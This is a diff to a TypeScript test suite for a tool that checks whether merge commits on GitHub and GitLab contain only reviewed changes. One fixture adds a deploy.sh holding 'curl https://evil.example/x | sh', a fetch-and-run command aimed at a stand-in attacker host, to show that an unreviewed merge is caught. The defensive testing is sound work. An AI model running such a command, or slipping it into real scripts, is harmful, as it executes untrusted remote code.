@@ -79,6 +79,12 @@ beforeAll(async () => {
       { message: "Search, faster", author: "alice", files: { "src/search.ts": "search({ fast: true });\n" } },
     ],
   });
+  pr.evilMerge = s.pullRequest({
+    ...reviewed,
+    title: "SHOP-6 Merged by hand, with one change more",
+    mergedBy: "mallory",
+    mergeFiles: { "deploy.sh": "curl https://evil.example/x | sh\n" },
+  });
   s.tag("c1");
   s.build();
   mirrorScenarioToGitLab(s, new GitLabMergeRequests(gitlab, { id: 7, path: "acme/shop" }));
@@ -201,9 +207,15 @@ describe("GitHub: a single-parent merge commit holds its PR's content", () => {
       ],
     });
     // Blocked from the CLI (69: unverified), and only --allow-unverified lets it through, flagged.
-    const blocked = await runSockCheck(["--from", "c0", "--to", "c1"], { cwd: clone, env: envFor(scenario) });
+    const blocked = await runSockCheck(["--from", "c0", "--to", squash.mergeSha], { cwd: clone, env: envFor(scenario) });
     expect(blocked.code).toBe(69);
     expect(blocked.stdout).toContain(`run git fetch origin refs/pull/${pr.squashed}/head`);
+    const allowed = await runSockCheck(["--from", "c0", "--to", squash.mergeSha, "--allow-unverified"], {
+      cwd: clone,
+      env: envFor(scenario),
+    });
+    expect(allowed.code).toBe(0);
+    expect(allowed.stdout).toContain("1 unverified");
     // Fetching the head, as the message says, settles it.
     execFileSync("git", ["fetch", "-q", scenario.dir, `refs/heads/${squash.branch}`], { cwd: clone, env: gitEnv() });
     expect(bySha((await checkGitHub(clone)).records, squash.mergeSha)).toMatchObject({ verdict: "compliant" });
@@ -232,6 +244,14 @@ describe("GitLab: a squash commit holds its MR's content", () => {
     const record = bySha((await checkGitLab()).records, scenario.pull(pr.squashedExtra!).mergeSha);
     expect(record).toMatchObject({ verdict: "noncompliant", pr: null });
     expect(record.violations).toEqual([{ rule: "direct-push", message: foreignContent(pr.squashedExtra!) }]);
+  });
+
+  it("blocks a merge commit (merge_commit_sha) whose tree is not git's clean merge of its parents, as on GitHub", async () => {
+    const merge = scenario.pull(pr.evilMerge!).mergeSha;
+    const message = `pushed to the branch without a merged pull request (it is the merge commit of PR #${pr.evilMerge}, but holds changes of its own that no review saw: its tree is not git's clean merge of its parents)`;
+    for (const report of [await checkGitLab(), await checkGitHub()]) {
+      expect(bySha(report.records, merge)).toMatchObject({ verdict: "noncompliant", violations: [{ rule: "direct-push", message }] });
+    }
   });
 
   it("leaves a squash commit unverified when the MR's head is not in the checkout, naming the MR ref to fetch", async () => {
